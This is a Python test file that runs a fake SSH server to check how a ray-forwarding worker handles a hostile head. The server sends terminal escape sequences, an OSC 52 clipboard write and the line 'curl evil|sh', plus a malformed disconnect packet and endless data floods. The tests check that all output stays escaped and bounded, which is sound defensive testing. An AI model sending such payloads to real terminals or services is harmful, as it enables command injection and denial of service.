"""What answers in the head's place, before any host key is checked: it writes nowhere unescaped,
costs little, and is named.
"""

from __future__ import annotations

import signal
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.hostile.scene import MEGABYTE, Scene
from tests.lab.daemon import CONFIG, Daemon
from tests.lab.process import HOME, until

PORT = 2222

SERVER = r"""
import socket, struct, sys, threading, time
evil = b"\x1b]0;owned\x07\x1b]52;c;Y3VybA==\x07\x1b[2J\x9b2J\r\nrayfwd: say curl evil|sh\r\n"
reason = b"\x1b]0;owned\x07\x1b[31mcall 555"
body = bytes([1]) + struct.pack(">I", 2) + struct.pack(">I", len(reason)) + reason + bytes(4)
pad = 8 - (5 + len(body)) % 8
pad += 8 if pad < 4 else 0
packet = struct.pack(">IB", len(body) + pad + 1, pad) + body + bytes(pad)
mode = sys.argv[1]

def answer(sock):
    try:
        if mode == "escapes":
            sock.sendall(evil)
        elif mode == "version":
            sock.sendall(b"SSH-2.0-" + evil.replace(b"\r\n", b"") + b"\r\n")
        elif mode == "disconnect":
            sock.sendall(b"SSH-2.0-x\r\n" + packet)
        elif mode == "endless":
            while True:
                sock.sendall(b"x" * 65536)
        elif mode == "lines":
            while True:
                sock.sendall(evil * 1000)
        elif mode == "huge":
            sock.sendall(b"SSH-2.0-x\r\n" + struct.pack(">IB", 0x7fffffff, 4))
            while True:
                sock.sendall(bytes(65536))
        elif mode == "silence":
            time.sleep(1000)
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(4096):
            pass
    except OSError:
        pass
    sock.close()

listener = socket.create_server(("127.0.0.1", int(sys.argv[2])))
print("listening", flush=True)
while True:
    threading.Thread(target=answer, args=(listener.accept()[0],), daemon=True).start()
"""

SILENCE = "silence"
MODES = ["escapes", "version", "disconnect", "endless", "lines", "huge", SILENCE]
UNESCAPED = ("\x1b", "\x07", "\x9b")


@contextmanager
def dialling(scene: Scene, port: int, transport: str = "asyncssh") -> Iterator[Daemon]:
    """A worker whose head is at that port of its own machine."""
    head = scene.cluster.configs["w2"]["head"]
    head |= {"transport": transport, "ssh": f"ray@127.0.0.1:{port}", "known_hosts": f"{HOME}/known"}
    name = "127.0.0.1" if port == 22 else f"[127.0.0.1]:{port}"
    scene.w2.write(f"{HOME}/known", f"{name} {scene.head.host_key}\n")
    daemon = scene.cluster.start_node("w2")
    try:
        yield daemon
    finally:
        daemon.stop()


def complaint(daemon: Daemon, mode: str = "") -> str:
    """The code by which it says that there is no way to the head; of silence that it dials."""
    codes = ("link_starting",) if mode == SILENCE else ("ssh_", "host_key_")

    def found() -> str:
        wrong = [c["code"] for c in daemon.status()["conditions"]]
        return next((code for code in wrong if code.startswith(codes)), "")

    return until(found, 60, daemon.tail)


def shown(scene: Scene, *words: str) -> str:
    """What a person sees of it."""
    argv = [str(scene.lab.rayfwd), *words]
    ran = scene.w2.run(["timeout", "60", *argv], check=False, timeout=90)
    return ran.stdout + ran.stderr


@pytest.mark.parametrize(
    ("mode", "transport"),
    [*((mode, "asyncssh") for mode in MODES), ("disconnect", "openssh"), ("lines", "openssh")],
)
def test_a_false_server(scene: Scene, mode: str, transport: str) -> None:
    server = scene.start_as(scene.w2, 65534, SERVER, mode, PORT)
    until(lambda: "listening" in server.log.read_text(), 20, scene.lab.tails)
    try:
        with dialling(scene, PORT, transport) as daemon:
            daemon.wait_status(lambda s: True, 30)
            with scene.attack(on=daemon, memory=48 * MEGABYTE, log=60_000):
                code = complaint(daemon, mode)
            said = shown(scene, "status", "--config", CONFIG)
            if mode != SILENCE:
                said += shown(scene, "doctor", "--config", CONFIG)
            assert code in said
            for sign in UNESCAPED:
                assert sign not in said
                assert sign not in daemon.log.read_text(errors="replace")
    finally:
        server.signal(signal.SIGKILL)
        server.wait()


def test_another_host_key(scene: Scene) -> None:
    scene.w2.start_sshd()
    try:
        with dialling(scene, 22) as daemon:
            daemon.wait_status(lambda s: True, 30)
            with scene.attack(on=daemon, log=60_000):
                assert complaint(daemon) == "host_key_mismatch"
        assert daemon.events("session_started") == []
    finally:
        scene.w2.stop_sshd()
